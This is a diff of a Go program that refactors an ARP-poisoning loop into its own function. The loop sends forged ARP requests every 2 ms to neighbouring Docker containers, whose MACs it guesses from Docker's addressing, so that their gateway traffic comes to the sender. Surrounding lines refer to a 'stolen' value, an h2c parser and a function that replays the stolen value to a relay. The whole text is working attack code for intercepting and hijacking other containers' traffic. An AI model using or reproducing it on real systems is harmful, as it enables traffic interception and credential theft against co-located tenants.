@@ -53,28 +53,7 @@ func main() {
 	ll := &syscall.SockaddrLinklayer{Protocol: htons(syscall.ETH_P_ALL), Ifindex: ifc.Index}
 	must(syscall.Bind(fd, ll))
 
-	// Poison: "who has <neighbour>? tell <gateway> (at my MAC)", to the
-	// first addresses of the network but ours and the gateway's, every 2 ms.
-	// A Linux neighbour that gets an ARP request for its address records
-	// the sender's, so it then sends the gateway's traffic here.
-	go func() {
-		for {
-			for i := 2; i < 10; i++ {
-				ip := net.IPv4(gw[0], gw[1], gw[2], byte(i)).To4()
-				if ip.Equal(me) {
-					continue
-				}
-				// Docker derives a container's MAC from its IPv4 address.
-				dst := net.HardwareAddr{0x02, 0x42, ip[0], ip[1], ip[2], ip[3]}
-				_ = syscall.Sendto(fd, arp(1, ifc.HardwareAddr, gw, dst, ip), 0, ll)
-				// And tell the host each neighbour's true address ahead of
-				// time, so that it need not ask (its broadcast question,
-				// from the gateway's true MAC, would undo ours).
-				_ = syscall.Sendto(fd, arp(1, dst, ip, gwMAC, gw), 0, ll)
-			}
-			time.Sleep(2 * time.Millisecond)
-		}
-	}()
+	go poison(fd, ll, ifc.HardwareAddr, me, gw, gwMAC)
 
 	buf := make([]byte, 65536)
 	stolen := ""
@@ -192,6 +171,29 @@ func h2c(sport uint16, seq uint32, payload []byte) string {
 		f.buf = f.buf[9+n:]
 	}
 	return f.seen
+}
+
+// poison asks "who has <neighbour>? tell <gateway> (at my MAC)" of the
+// first addresses of the network but ours and the gateway's, every 2 ms.
+// A Linux neighbour that gets an ARP request for its address records
+// the sender's, so it then sends the gateway's traffic here.
+func poison(fd int, ll *syscall.SockaddrLinklayer, mine net.HardwareAddr, me, gw net.IP, gwMAC net.HardwareAddr) {
+	for {
+		for i := 2; i < 10; i++ {
+			ip := net.IPv4(gw[0], gw[1], gw[2], byte(i)).To4()
+			if ip.Equal(me) {
+				continue
+			}
+			// Docker derives a container's MAC from its IPv4 address.
+			dst := net.HardwareAddr{0x02, 0x42, ip[0], ip[1], ip[2], ip[3]}
+			_ = syscall.Sendto(fd, arp(1, mine, gw, dst, ip), 0, ll)
+			// And tell the host each neighbour's true address ahead of
+			// time, so that it need not ask (its broadcast question,
+			// from the gateway's true MAC, would undo ours).
+			_ = syscall.Sendto(fd, arp(1, dst, ip, gwMAC, gw), 0, ll)
+		}
+		time.Sleep(2 * time.Millisecond)
+	}
 }
 
 // ride sends the relay a request of our own with the stolen value.
